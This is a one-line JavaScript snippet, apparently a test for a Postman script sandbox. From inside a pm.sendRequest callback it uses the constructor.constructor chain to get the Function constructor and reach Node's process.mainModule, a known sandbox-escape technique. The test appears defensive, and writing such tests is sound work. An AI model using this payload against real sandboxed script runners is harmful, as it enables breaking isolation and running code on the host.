pm.sendRequest('http://127.0.0.1:1/', (e, r) => escaped('response', (r ?? e).constructor.constructor('return globalThis.process?.mainModule')()));
